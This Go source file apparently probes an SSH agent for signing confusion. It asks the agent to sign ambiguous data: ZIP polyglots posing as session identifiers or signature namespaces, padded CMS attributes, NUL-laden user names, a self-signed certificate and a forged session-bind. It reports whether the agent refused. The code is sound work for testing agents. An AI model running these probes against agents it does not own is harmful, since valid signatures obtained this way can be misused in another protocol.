package main

import (
	"archive/zip"
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/asn1"
	"errors"
	"fmt"
	"net"
	"os"
	"time"

	"golang.org/x/crypto/ssh"
	sshclient "golang.org/x/crypto/ssh/agent"
)

// attackSign makes the agent sign ambiguous data, and prints "signed" or "refused". Its arguments
// are the kind of data, the file of a public key, and "forwarded" for a connection that another
// host has bound. The kinds of data:
//
//	random       1,024 random bytes
//	attributes   the signed attributes of a CMS signature (RFC 5652 section 5.3), padded to
//	             1,024 bytes
//	session      a login whose session identifier is a ZIP archive
//	user         a login whose user has a NUL in it
//	certificate  a login with a certificate of the key that no authority has signed
//	namespace    an SSH signature whose namespace is a ZIP archive
func attackSign(args []string) error {
	if len(args) < 2 {
		return errors.New("what, and with which key?")
	}
	text, err := os.ReadFile(args[1])
	if err != nil {
		return err
	}
	key, _, _, _, err := ssh.ParseAuthorizedKey(text)
	if err != nil {
		return err
	}
	conn, err := net.Dial("unix", os.Getenv("SSH_AUTH_SOCK"))
	if err != nil {
		return err
	}
	defer conn.Close()
	client := sshclient.NewClient(conn)
	if len(args) > 2 && args[2] == "forwarded" {
		if err := bindAsHost(client); err != nil {
			return err
		}
	}
	data, err := ambiguous(args[0], key)
	if err != nil {
		return err
	}
	sig, err := client.Sign(key, data)
	if err != nil {
		fmt.Println("refused")
		return nil
	}
	fmt.Println("signed")
	return key.Verify(data, sig)
}

// bindAsHost binds a connection in the same way as a host that the agent is forwarded to.
func bindAsHost(client sshclient.ExtendedAgent) error {
	_, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	host, err := ssh.NewSignerFromKey(private)
	if err != nil {
		return err
	}
	session := sessionID("of the attacker")
	sig, err := host.Sign(rand.Reader, []byte(session))
	if err != nil {
		return err
	}
	_, err = client.Extension("session-bind@openssh.com", sshFields(host.PublicKey().Marshal(), session, ssh.Marshal(sig), byte(1)))
	return err
}

// ambiguous makes the data that attackSign describes.
func ambiguous(what string, key ssh.PublicKey) ([]byte, error) {
	login := func(session, user, algorithm string, key []byte) []byte {
		return sshFields(session, byte(50), user, "ssh-connection", "publickey", byte(1), algorithm, key)
	}
	switch what {
	case "random":
		data := make([]byte, 1024)
		_, err := rand.Read(data)
		return data, err
	case "attributes":
		return paddedAttributes(1024)
	case "session":
		archive, err := hiddenArchive()
		return login(string(archive), "me", key.Type(), key.Marshal()), err
	case "user":
		return login(sessionID("one"), "me\x00", key.Type(), key.Marshal()), nil
	case "certificate":
		cert := &ssh.Certificate{
			Key: key, CertType: ssh.UserCert, KeyId: "no authority has seen this", ValidBefore: ssh.CertTimeInfinity,
			SignatureKey: key, Signature: &ssh.Signature{Format: key.Type(), Blob: make([]byte, 64)},
		}
		return login(sessionID("one"), "me", cert.Type(), cert.Marshal()), nil
	case "namespace":
		archive, err := hiddenArchive()
		return append([]byte("SSHSIG"), sshFields(string(archive), "", "sha256", sessionID("file"))...), err
	}
	return nil, errors.New("there is no such data")
}

// hiddenArchive returns a ZIP archive that stays valid with other data before and after it.
func hiddenArchive() ([]byte, error) {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.Create("contract.txt")
	if err != nil {
		return nil, err
	}
	if _, err := f.Write([]byte("I owe the attacker everything.")); err != nil {
		return nil, err
	}
	if err := w.SetComment(string(make([]byte, 512))); err != nil { // for the data that comes after it
		return nil, err
	}
	err = w.Close()
	return b.Bytes(), err
}

// paddedAttributes returns the attributes of a CMS signature in DER, of size bytes in all. An
// attribute with an unknown type fills the rest.
func paddedAttributes(size int) ([]byte, error) {
	type attribute struct {
		Type   asn1.ObjectIdentifier
		Values []any `asn1:"set"`
	}
	pkcs9 := func(n int) asn1.ObjectIdentifier { return asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 9, n} }
	for padding := size; padding > 0; padding-- {
		random := make([]byte, padding)
		if _, err := rand.Read(random); err != nil {
			return nil, err
		}
		der, err := asn1.MarshalWithParams([]attribute{
			{pkcs9(3), []any{asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 7, 1}}},
			{pkcs9(5), []any{time.Now().UTC()}},
			{pkcs9(4), []any{[]byte(sessionID("the letter"))}},
			{asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 99999}, []any{random}},
		}, "set")
		if err != nil || len(der) == size {
			return der, err
		}
	}
	return nil, errors.New("there is no such padding")
}
